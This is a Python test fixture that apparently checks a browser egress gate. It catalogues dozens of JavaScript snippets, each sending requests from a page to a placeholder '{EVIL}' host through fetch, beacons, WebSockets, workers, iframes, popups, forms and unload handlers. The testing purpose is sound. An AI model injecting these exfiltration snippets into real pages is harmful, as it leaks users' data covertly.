"""Ways out of a page for code that runs in it, each to ``{EVIL}/NAME``; ``{WS}`` is the same by web socket."""

from tests.browser.site import Asked, Reply

IN_PAGE = {
    "fetch": "fetch('{U}',{{mode:'no-cors'}}).catch(()=>0)",
    "fetch-keepalive": "fetch('{U}',{{mode:'no-cors',keepalive:true,method:'POST',body:'x'}}).catch(()=>0)",
    "fetch-preflight": "fetch('{U}',{{headers:{{'x-a':'1'}}}}).catch(()=>0)",
    "xhr": "x=new XMLHttpRequest();x.open('GET','{U}');x.onerror=()=>0;x.send()",
    "img": "new Image().src='{U}'",
    "script": "s=document.createElement('script');s.src='{U}';document.head.append(s)",
    "module": "import('{U}').catch(()=>0)",
    "stylesheet": "s=document.createElement('link');s.rel='stylesheet';s.href='{U}';document.head.append(s)",
    "css-url": "document.body.style.backgroundImage='url({U})'",
    "css-import": "s=document.createElement('style');s.textContent='@import url({U})';document.head.append(s)",
    "font": "new FontFace('f','url({U})').load().catch(()=>0)",
    "video": "v=document.createElement('video');v.src='{U}';document.body.append(v);v.load()",
    "svg": "document.body.insertAdjacentHTML('beforeend','<svg><image href={U} /></svg>')",
    "object": "o=document.createElement('object');o.data='{U}';document.body.append(o)",
    "embed": "e=document.createElement('embed');e.src='{U}';document.body.append(e)",
    "iframe": "i=document.createElement('iframe');i.src='{U}';document.body.append(i)",
    "iframe-blank-fetch": "i=document.createElement('iframe');document.body.append(i);i.contentWindow.fetch('{U}',{{mode:'no-cors'}}).catch(()=>0)",
    "iframe-srcdoc": "i=document.createElement('iframe');i.srcdoc='<img src={U}>';document.body.append(i)",
    "iframe-sandboxed": "i=document.createElement('iframe');i.sandbox='allow-scripts';i.srcdoc='<img src={U}>';document.body.append(i)",
    "iframe-js-url": "i=document.createElement('iframe');i.src=\"javascript:fetch('{U}',{{mode:'no-cors'}})\";document.body.append(i)",
    "iframe-form": "n='f'+Math.random();i=document.createElement('iframe');i.name=n;document.body.append(i);f=document.createElement('form');f.method='post';f.action='{U}';f.target=n;document.body.append(f);f.submit()",
    "window-open": "window.open('{U}')",
    "window-open-noopener": "window.open('{U}','_blank','noopener')",
    "popup-fetch": "w=window.open('about:blank');w.fetch('{U}',{{mode:'no-cors'}}).catch(()=>0)",
    "popup-assign": "w=window.open('about:blank');w.location='{U}'",
    "a-ping": "a=document.createElement('a');a.href='#x';a.ping='{U}';document.body.append(a);a.click()",
    "beacon": "navigator.sendBeacon('{U}','x')",
    "eventsource": "new EventSource('{U}')",
    "redirected-fetch": "fetch('/away?to='+encodeURIComponent('{U}'),{{mode:'no-cors'}}).catch(()=>0)",
    "redirected-img": "new Image().src='/away?to='+encodeURIComponent('{U}')",
    "redirected-twice": "new Image().src='/away?to='+encodeURIComponent('/away?to='+encodeURIComponent('{U}'))",
    "prefetch": "l=document.createElement('link');l.rel='prefetch';l.href='{U}';document.head.append(l)",
    "preload": "l=document.createElement('link');l.rel='preload';l.as='image';l.href='{U}';document.head.append(l)",
    "modulepreload": "l=document.createElement('link');l.rel='modulepreload';l.href='{U}';document.head.append(l)",
    "manifest": "l=document.createElement('link');l.rel='manifest';l.href='{U}';document.head.append(l)",
    "icon": "l=document.createElement('link');l.rel='icon';l.href='{U}';document.head.append(l)",
    "speculation-prefetch": "s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({{prefetch:[{{source:'list',urls:['{U}'],eagerness:'immediate'}}]}});document.head.append(s)",
    "speculation-prerender": "s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({{prerender:[{{source:'list',urls:['{U}'],eagerness:'immediate'}}]}});document.head.append(s)",
    "worker-blob": "new Worker(URL.createObjectURL(new Blob([`fetch('{U}',{{mode:'no-cors'}})`])))",
    "worker-data": "new Worker('data:text/javascript,'+encodeURIComponent(`fetch('{U}',{{mode:'no-cors'}})`))",
    "worker-import": "new Worker(URL.createObjectURL(new Blob([`importScripts('{U}')`])))",
    "worker-nested": "new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob([\"fetch('{U}',{{mode:'no-cors'}})\"])))`])))",
    "shared-worker": "new SharedWorker('/job.js?shared&to='+encodeURIComponent('{U}'))",
    "service-worker": "navigator.serviceWorker.register('/job.js?service&to='+encodeURIComponent('{U}')).catch(()=>0)",
    "timer": "setTimeout(()=>fetch('{U}',{{mode:'no-cors'}}).catch(()=>0),300)",
    "track": "v=document.createElement('video');v.crossOrigin='anonymous';t=document.createElement('track');t.src='{U}';t.default=true;v.append(t);document.body.append(v);t.track.mode='showing'",
    "worklet": "CSS.paintWorklet&&CSS.paintWorklet.addModule('{U}').catch(()=>0)",
    "fetch-later": "try{{fetchLater('{U}',{{activateAfter:50}})}}catch(e){{}}",
}
"""Together in one page."""

SOCKETS = {
    "websocket": "new WebSocket('{WS}')",
    "websocket-stream": "try{{new WebSocketStream('{WS}')}}catch(e){{}}",
    "iframe-websocket": "i=document.createElement('iframe');document.body.append(i);new i.contentWindow.WebSocket('{WS}')",
    "sandboxed-websocket": "i=document.createElement('iframe');i.sandbox='allow-scripts';i.srcdoc=`<script>new WebSocket('{WS}')</`+`script>`;document.body.append(i)",
    "popup-websocket": "w=window.open('about:blank');new w.WebSocket('{WS}')",
    "worker-websocket": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('{WS}')`])))",
}
"""What the browser's own interception does not see; only the gate does."""

LEAVING = {
    "location": "location='{U}'",
    "form-get": "f=document.createElement('form');f.action='{U}';document.body.append(f);f.submit()",
    "form-post": "f=document.createElement('form');f.method='post';f.action='{U}';document.body.append(f);f.submit()",
    "link": "a=document.createElement('a');a.href='{U}';document.body.append(a);a.click()",
    "meta-refresh": "document.head.insertAdjacentHTML('beforeend','<meta http-equiv=refresh content=\"0;url={U}\">')",
    "redirected": "location='/away?to='+encodeURIComponent('{U}')",
    "download": "a=document.createElement('a');a.href='{U}';a.download='x';document.body.append(a);a.click()",
    "unload-beacon": "addEventListener('pagehide',()=>navigator.sendBeacon('{U}','x'));location='/next'",
    "unload-fetch": "addEventListener('pagehide',()=>fetch('{U}',{{mode:'no-cors',keepalive:true,referrerPolicy:'no-referrer'}}).catch(()=>0));location='/next'",
    "form-blank": "f=document.createElement('form');f.method='post';f.action='{U}';f.target='_blank';document.body.append(f);f.submit()",
    "link-blank": "a=document.createElement('a');a.href='{U}';a.target='_blank';document.body.append(a);a.click()",
}
"""Each in a tab of its own."""

UNSEEN = {
    "window-open-noopener",
    "fetch-later",
    "worklet",
    "manifest",
    "speculation-prefetch",
    "speculation-prerender",
}
"""May not arrive even where nobody holds them: the browser of the day does not do it, or not soon."""


def codes(group: dict[str, str], evil: str) -> dict[str, str]:
    """The code of each attack, in one expression that gives nothing."""
    socket = evil.replace("http:", "ws:")
    return {
        name: "(()=>{" + text.format(U=f"{evil}/{name}", WS=f"{socket}/{name}") + "})()"
        for name, text in group.items()
    }


def away(asked: Asked) -> Reply:
    """A place of the site itself that leads to ``to``."""
    return Reply(status=302, headers=(("location", asked.query["to"]),))


def job(asked: Asked) -> Reply:
    """A worker that asks ``to``."""
    text = f"self.onconnect=()=>0;fetch('{asked.query['to']}',{{mode:'no-cors'}}).catch(()=>0)"
    return Reply(text, "text/javascript")
